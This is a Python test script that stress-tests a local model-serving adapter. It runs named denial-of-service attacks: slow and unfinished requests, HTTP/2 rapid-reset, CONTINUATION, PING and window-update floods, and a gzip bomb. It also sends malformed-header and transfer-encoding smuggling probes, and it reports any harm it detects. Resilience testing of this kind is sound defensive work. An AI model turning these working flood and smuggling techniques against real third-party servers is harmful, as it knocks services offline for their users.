"""Attacks an adapter of this machine: attacks.py ATTACK HTTP_PORT GRPC_PORT SECONDS; attacks.py alone lists the attacks.

Each is bounded in what it sends, opens and holds (siege.py), attacks for so long, and leaves. What it has to complain
about, if it can tell that itself, it prints. The program of the adapter answers {"size": N} with N letters.
"""
import inspect
import itertools
import os
import socket
import struct
import sys
import time
import zlib

from siege import (
    ACK, AS_IT_COMES, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RESET, SETTINGS, WINDOW,
    Siege, block, data, field, frame, headers, hello, streams,
)

PATH = b"/v1/models/model-1:predict"
PREDICT = block(b"POST", PATH)
JSON = (b"content-type", b"application/json")
GRPC = (b"content-type", b"application/grpc")
SMALL = b'{"n":1}'


def post(body=b"", *fields, length=None):
    """A prediction by HTTP/1.1."""
    length = len(body) if length is None else length
    lines = [b"POST " + PATH + b" HTTP/1.1", b"host: x", b"content-length: %d" % length, *fields]
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def get(path):
    return b"GET " + path + b" HTTP/1.1\r\nhost: x\r\n\r\n"


def call(method, *more):
    return block(b"POST", method, GRPC, (b"te", b"trailers"), *more)


def message(payload, length=None):
    return b"\0" + struct.pack(">I", len(payload) if length is None else length) + payload


def once(*parts):
    """A script that sends these and holds the connection."""
    return lambda: iter(parts)


def each_stream(made, window=None, count=999, acknowledge=True):
    """A script that sends what is made for each stream, and holds the connection."""

    def script():
        yield hello(window, acknowledge)
        yield from map(made, streams(count))

    return script


def for_ever(first, made):
    """A script that sends this, and then for ever what is made for each number."""

    def script():
        yield first
        yield from map(made, itertools.count())

    return script


def always(piece, size=1 << 14):
    many = piece * max(1, size // len(piece))
    return lambda n: many


# Requests that are opened and come no further.


def settings_never_acknowledged(siege, http, grpc):
    siege.add(2, http, each_stream(lambda s: headers(s, PREDICT), count=60000, acknowledge=False))


def headers_of_many_connections(siege, http, grpc):
    siege.add(50, http, each_stream(lambda s: headers(s, PREDICT)), reads=AS_IT_COMES)


def large_headers(siege, http, grpc):
    large = PREDICT + field(b"x", b"a" * 60000)
    siege.add(6, http, each_stream(lambda s: headers(s, large)), reads=AS_IT_COMES)


def large_headers_by_http1(siege, http, grpc):
    siege.add(1500, http, once(post(b"", b"x: " + b"a" * 60000, length=10)))


def many_small_headers(siege, http, grpc):
    many = PREDICT + b"".join(field(b"a", b"") for _ in range(1800))
    siege.add(6, http, each_stream(lambda s: headers(s, many)), reads=AS_IT_COMES)


def many_small_headers_by_http1(siege, http, grpc):
    siege.add(500, http, once(post(b"", *[b"a:"] * 15000, length=10)))


def unfinished_heads(siege, http, grpc):
    begun = post()[:-4]
    siege.add(1000, http, once(begun + b"\r\nx: " + b"a" * 8000)).add(1000, http, once(begun + b"\r\nx: " + b"a" * 60000))


def unfinished_heads_of_small_headers(siege, http, grpc):
    siege.add(500, http, once(post()[:-4] + b"\r\na:" * 15000))


def unfinished_heads_of_http2(siege, http, grpc):
    begun = headers(1, PREDICT + field(b"x", b"a" * 60000))
    siege.add(1000, http, once(hello(), begun[: begun.rindex(b"a" * 1000)]))


def half_a_preface(siege, http, grpc):
    siege.add(1500, http, once(PREFACE[:11])).add(1500, http, once(PREFACE))


def idle_connections(siege, http, grpc):
    siege.add(2000, http, once()).add(1000, grpc, once())


def garbage(siege, http, grpc):
    def slowly():
        for part in (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc", *[os.urandom(7) for _ in range(50)]):
            yield part
            yield 0.1

    siege.add(500, http, slowly).add(500, grpc, slowly)


def watches(siege, http, grpc):
    watch = call(b"/grpc.health.v1.Health/Watch")
    siege.add(49, grpc, each_stream(lambda s: headers(s, watch) + data(s, message(b""))), reads=AS_IT_COMES)


def reflections_that_stop(siege, http, grpc):
    reflection = call(b"/grpc.reflection.v1.ServerReflection/ServerReflectionInfo")
    begun = message(b"x" * 1000, length=16384)
    siege.add(20, grpc, each_stream(lambda s: headers(s, reflection) + data(s, begun, end=False)), reads=AS_IT_COMES)


# Bodies that come slowly, not at all, or for ever.


def one_byte_of_each_body(siege, http, grpc):
    announced = PREDICT + field(b"content-length", b"1000000")
    siege.add(2, http, each_stream(lambda s: headers(s, announced) + data(s, b"{", end=False), count=900), reads=AS_IT_COMES)


def one_byte_of_each_body_by_http1(siege, http, grpc):
    siege.add(1500, http, once(post(b"{", length=1000000)))


def one_byte_of_each_message(siege, http, grpc):
    predict = call(b"/caraml.upi.v1.UniversalPredictionService/PredictValues")
    begun = message(b"x", length=16 << 20)
    siege.add(4, grpc, each_stream(lambda s: headers(s, predict) + data(s, begun, end=False)), reads=AS_IT_COMES)


def bodies_that_stop(siege, http, grpc):
    megabyte = b'{"x":"' + b"a" * (1 << 20)
    siege.add(50, http, once(post(megabyte, length=16 << 20)))


def bodies_that_trickle(siege, http, grpc):
    def script():
        yield post(b'{"x":"', length=100000)
        for _ in itertools.count():
            yield 0.5
            yield b"a"

    siege.add(1000, http, script)


def chunks_of_one_byte(siege, http, grpc):
    begun = b"\r\n".join([b"POST " + PATH + b" HTTP/1.1", b"host: x", b"transfer-encoding: chunked", b"", b'6', b'{"x":"', b""])
    siege.add(10, http, for_ever(begun, always(b"1\r\na\r\n")))
    siege.add(10, http, for_ever(begun, always(b"1;" + b"e" * 4000 + b"\r\na\r\n")))
    siege.add(100, http, for_ever(begun, always(b"1;" + b"e" * 16000)))


def trailers(siege, http, grpc):
    begun = b"\r\n".join([b"POST " + PATH + b" HTTP/1.1", b"host: x", b"transfer-encoding: chunked", b"", b"2", b"{}", b"0", b""])
    siege.add(200, http, once(begun + b"a:\r\n" * 10000)).add(200, http, once(begun + b"a: " + b"b" * 60000))
    large = field(b"x", b"a" * 60000)

    def ended(stream):
        return headers(stream, PREDICT) + data(stream, SMALL, end=False) + headers(stream, large, end=True)

    siege.add(4, http, each_stream(ended), reads=AS_IT_COMES)


def continue_never_sent(siege, http, grpc):
    siege.add(1000, http, once(post(b"", b"expect: 100-continue", length=1000)))
    expecting = block(b"POST", PATH, (b"expect", b"100-continue"), (b"content-length", b"1000"))
    siege.add(4, http, each_stream(lambda s: headers(s, expecting)), reads=AS_IT_COMES)


def gzip_bombs(siege, http, grpc):
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = b"".join(packer.compress(b" " * (1 << 20)) for _ in range(200)) + packer.flush()

    def script():
        while True:
            yield post(bomb, b"content-encoding: gzip")
            yield 0.5

    siege.add(10, http, script, reads=AS_IT_COMES)


def empty_data(siege, http, grpc):
    predict = call(b"/caraml.upi.v1.UniversalPredictionService/PredictValues")
    siege.add(4, grpc, for_ever(hello() + headers(1, predict), always(data(1, b"", end=False))), reads=AS_IT_COMES)
    siege.add(4, http, for_ever(hello() + headers(1, PREDICT), always(data(1, b"", end=False))), reads=AS_IT_COMES)


def padding(siege, http, grpc):
    padded = frame(DATA, 8, 1, b"\xff" + b"a" + b"\0" * 255)
    siege.add(4, http, for_ever(hello() + headers(1, PREDICT) + data(1, b'{"x":"', end=False), always(padded)), reads=AS_IT_COMES)


def upgrades_with_bodies(siege, http, grpc):
    fields = [b"connection: upgrade, http2-settings", b"upgrade: h2c", b"http2-settings: AAMAAABkAAQAAP__"]
    siege.add(500, http, once(post(b"[" * 1000, *fields))).add(500, http, once(post(b"[", *fields, length=60000)))
    siege.add(500, grpc, once(post(b"[" * 50000, *fields)))


# Answers that are not read, or read slowly.


def unread_replies(siege, http, grpc):
    siege.add(3, http, each_stream(lambda s: headers(s, PREDICT) + data(s, b'{"size":60000}'), window=0))


def unread_replies_by_http1(siege, http, grpc):
    siege.add(50, http, once(post(b'{"size":60000}') * 200), small=True)


def replies_read_slowly(siege, http, grpc):
    siege.add(100, http, once(post(b'{"size":1048576}')), reads=1024, small=True)


def replies_read_by_the_byte(siege, http, grpc):
    def script():
        yield hello(window=1)
        for stream in streams(200):
            yield headers(stream, PREDICT) + data(stream, b'{"size":60000}')
        for _ in itertools.count():
            for stream in streams(200):
                yield frame(WINDOW, 0, stream, struct.pack(">I", 1))
            yield 0.05

    siege.add(3, http, script, reads=AS_IT_COMES)


def unread_metrics(siege, http, grpc):
    metrics = block(b"GET", b"/metrics")
    siege.add(6, http, each_stream(lambda s: headers(s, metrics, end=True), window=0))


def unread_errors(siege, http, grpc):
    wrong = [
        headers(0, block(b"GET", b"/nothing"), end=True),
        headers(0, block(b"POST", PATH, (b"content-length", b"999999999"))),
        headers(0, block(b"POST", PATH, (b"content-encoding", b"br"))),
        headers(0, block(b"POST", PATH)) + data(0, b"no json"),
    ]

    def refused(stream):
        frames, out = wrong[stream // 2 % len(wrong)], b""
        while frames:
            length = 9 + int.from_bytes(frames[:3], "big")
            out += frames[:5] + struct.pack(">I", stream) + frames[9:length]
            frames = frames[length:]
        return out

    siege.add(20, http, each_stream(refused, window=0))


def unread_reflections(siege, http, grpc):
    reflection = call(b"/grpc.reflection.v1.ServerReflection/ServerReflectionInfo")
    symbol = b"caraml.upi.v1.UniversalPredictionService"
    asked = message(b"\x22" + bytes([len(symbol)]) + symbol)
    siege.add(6, grpc, each_stream(lambda s: headers(s, reflection) + data(s, message(b"\x3a\x00") + asked), window=0))


def pipelined(siege, http, grpc):
    for request in (get(b"/"), get(b"/metrics"), post(SMALL), get(b"/nothing")):
        siege.add(8, http, for_ever(request, always(request, 1 << 16)), small=True)


def half_closed(siege, http, grpc):
    """Requests that are answered, and never ended by their caller."""
    alive, nothing = block(b"GET", b"/"), block(b"GET", b"/nothing")
    siege.add(25, http, each_stream(lambda s: headers(s, alive if s % 4 == 1 else nothing)), reads=AS_IT_COMES)


# Floods.


def flood(siege, port, made, first=b"", count=2):
    siege.add(count, port, for_ever(hello() + first, made))


def rapid_reset(siege, http, grpc):
    def script():
        yield hello()
        for stream in itertools.count(1, 2):
            yield headers(stream, PREDICT) + data(stream, SMALL) + frame(RESET, 0, stream, struct.pack(">I", 8))

    siege.add(4, http, script).add(4, http, script, reads=AS_IT_COMES)


def continuations(siege, http, grpc):
    begun = frame(HEADERS, END_STREAM, 1, PREDICT)
    flood(siege, http, always(frame(CONTINUATION, 0, 1)), first=begun)
    flood(siege, http, always(frame(CONTINUATION, 0, 1, b"\x10\x01x\x01y" * 20)), first=begun)


def pings(siege, http, grpc):
    flood(siege, http, always(frame(PING, 0, 0, b"12345678")))


def settings(siege, http, grpc):
    flood(siege, http, always(frame(SETTINGS, 0, 0)))


def windows_of_many_streams(siege, http, grpc):
    """Each of these settings changes the windows of all open streams."""

    def script():
        yield from each_stream(lambda s: headers(s, PREDICT))()
        for size in itertools.cycle((0, 65535)):
            yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, size))

    siege.add(2, http, script, reads=AS_IT_COMES)


def priorities(siege, http, grpc):
    flood(siege, http, always(frame(PRIORITY, 0, 3, b"\0\0\0\0\1")))
    flood(siege, http, lambda n: frame(PRIORITY, 0, 2 * n + 3, struct.pack(">IB", 2 * n + 1, 1)))


def window_updates(siege, http, grpc):
    flood(siege, http, always(frame(WINDOW, 0, 1, b"\0\0\0\1")), first=headers(1, PREDICT))
    flood(siege, http, lambda n: frame(WINDOW, 0, 0, b"\0\0\0\1") * 1000)


def oversized_headers_and_goodbye(siege, http, grpc):
    big = b"\x40\x01x" + b"\x7f\xa1\x1e" + b"b" * 4000
    pieces = [headers(1, PREDICT + big, end=True)] + [headers(s, PREDICT + b"\xbe" * 20, end=True) for s in range(3, 203, 2)]

    def script():
        yield hello() + b"".join(pieces)
        raise ConnectionAbortedError

    siege.add(20, http, script)


def coming_and_going(siege, http, grpc):
    def script(first):
        yield first
        raise ConnectionAbortedError

    for first in (b"", get(b"/"), get(b"/")[:9], hello(), post(SMALL), post(SMALL, length=99)):
        siege.add(3, http, lambda first=first: script(first))


# Requests that are not what they should be; these look for themselves whether somebody was hurt.


def answers_on(connection, wanted, seconds=5):
    """What comes until wanted does, or all that comes in time."""
    connection.settimeout(0.2)
    got = b""
    until = time.monotonic() + seconds
    while wanted not in got and time.monotonic() < until:
        try:
            part = connection.recv(1 << 16)
        except TimeoutError:
            continue
        except OSError:
            break
        if not part:
            break
        got += part
    return got


MALFORMED = {
    "connection": PREDICT + field(b"connection", b"close"),
    "te": PREDICT + field(b"te", b"gzip"),
    "transfer-encoding": PREDICT + field(b"transfer-encoding", b"chunked"),
    "upper case": PREDICT + field(b"Upper", b"x"),
    "empty path": block(b"POST", b""),
    "no path": field(b":method", b"POST") + field(b":scheme", b"http"),
    "two paths": PREDICT + field(b":path", PATH),
    "pseudo header at the end": field(b"a", b"b") + PREDICT,
    "unknown pseudo header": field(b":x", b"b") + PREDICT,
    "NUL": PREDICT + field(b"a", b"b\0c"),
    "line break": PREDICT + field(b"a", b"b\r\nc: d"),
    "wrong length": PREDICT + field(b"content-length", b"99"),
    "no length": PREDICT + field(b"content-length", b"many"),
    "70 KB": PREDICT + field(b"a", b"b" * 70000),
}


def malformed(siege, http, grpc):
    """A malformed request ends itself, and not its neighbour on the same connection."""
    while time.monotonic() < siege.until:
        for name, fields in MALFORMED.items():
            with socket.create_connection(("127.0.0.1", http)) as connection:
                # It is answered when its end comes, which is behind the malformed one.
                connection.sendall(hello() + headers(1, PREDICT) + data(1, b'{"neighbour":', end=False))
                connection.sendall(headers(3, fields) + data(3, SMALL) + data(1, b"1}"))
                if b'{"neighbour":1}' not in answers_on(connection, b'{"neighbour":1}'):
                    complain("a neighbour is lost beside: " + name)
                if time.monotonic() >= siege.until:
                    return


CODINGS = (b"xchunked", b"gzip", b"identity", b'"chunked"', b"chunked;q=1", b"cow", b"chunked, gzip", b"chunked\r\ntransfer-encoding: x")


def smuggling(siege, http, grpc):
    """What follows a request whose end can't be told is no request."""
    while time.monotonic() < siege.until:
        for coding in CODINGS:
            with socket.create_connection(("127.0.0.1", http)) as connection:
                hidden = post(b'{"smuggled":1}')
                connection.sendall(b"GET / HTTP/1.1\r\nhost: x\r\ntransfer-encoding: " + coding + b"\r\n\r\n" + hidden)
                if b'{"smuggled":1}' in answers_on(connection, b'{"smuggled":1}', seconds=1):
                    complain("smuggled by transfer-encoding: " + coding.decode())


COMPLAINTS = set()


def complain(text):
    if text not in COMPLAINTS:
        COMPLAINTS.add(text)
        print(text, flush=True)


ATTACKS = {
    name.replace("_", "-"): function
    for name, function in list(globals().items())
    if inspect.isfunction(function) and list(inspect.signature(function).parameters) == ["siege", "http", "grpc"]
}


def main():
    if len(sys.argv) == 1:
        print("\n".join(ATTACKS))
        return
    attack, http, grpc, seconds = sys.argv[1:]
    siege = Siege(float(seconds))
    try:
        ATTACKS[attack](siege, int(http), int(grpc))
        if siege.kinds:
            siege.run()
    except ConnectionError as gone:
        # Those that talk to it themselves have nobody to talk to.
        complain(str(gone))


main()
